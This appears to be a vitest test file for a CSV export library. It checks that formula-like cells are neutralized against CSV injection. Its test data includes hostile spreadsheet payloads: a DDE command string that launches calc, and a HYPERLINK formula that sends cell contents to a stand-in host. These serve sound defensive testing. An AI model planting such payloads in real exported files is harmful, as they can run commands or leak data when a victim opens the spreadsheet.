/**
 * src/lib/csv.ts, the one CSV writer. Expected texts are written out by hand from the OWASP
 * CSV-injection rule (a leading "'" on text cells starting with = + - @ TAB CR), not computed.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { BOM, csvCell, formulaCells, isFormulaCell, readCsv, writeCsv } from '../../src/lib/csv.ts';

const HOSTILE = [
  '=HYPERLINK("http://x.test/?"&A1,"clic")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1',
  '＝1+1', 'Ministerio del Interior', 'a, b; "c"', ' espacio ', 'línea\nnueva', '-7.5', '+3', '1e-3', '-', '', 'Año 2023',
];

describe('writeCsv', () => {
  it('writes a BOM, the header, neutralized formula cells, and numbers as numbers', () => {
    const csv = writeCsv(['Nombre', 'Monto', 'Nota'], [
      ['=HYPERLINK("http://x.test","clic")', -7496825.85, '@SUM(A1)'],
      ['Quito', 1234.5, null],
      ['-2+3', -5, '-7.5'],
      ['＋1', 0, undefined],
    ]);
    expect(csv).toBe(
      '\ufeffNombre,Monto,Nota\n' +
      '"\'=HYPERLINK(""http://x.test"",""clic"")",-7496825.85,"\'@SUM(A1)"\n' +
      'Quito,1234.5,\n' +
      '"\'-2+3",-5,-7.5\n' +
      '"\'＋1",0,\n',
    );
    expect(formulaCells(csv)).toEqual([]);
    expect(readCsv(csv)[2]).toEqual(['Quito', '1234.5', '']);
  });

  it('formulaCells finds what a spreadsheet would run', () => {
    expect(formulaCells('a,b\n=1+1,-5\n"@x",\'=y\n')).toEqual([
      { row: 2, column: 1, value: '=1+1' },
      { row: 3, column: 1, value: '@x' },
    ]);
    expect(isFormulaCell('-5')).toBe(false);
    expect(isFormulaCell('-5 USD')).toBe(true);
  });
});

describe('the cell function of the client downloads (csvCell)', () => {
  it('gives, cell by cell, what writeCsv gives once parsed back', () => {
    const parse = (line: string) => Papa.parse<string[]>(line, { newline: '\n' }).data[0] ?? [''];
    for (const v of [...HOSTILE, 42, -1.25, null]) {
      const server = readCsv(writeCsv(['x'], [[v]]))[1] ?? [''];
      expect(parse(csvCell(v as string)), JSON.stringify(v)).toEqual(server);
    }
    expect(formulaCells(`${HOSTILE.map((v) => csvCell(v as string)).join(',')}\n`)).toEqual([]);
  });
});

it('BOM is the UTF-8 byte-order mark', () => {
  expect(Buffer.from(BOM, 'utf8')).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
});
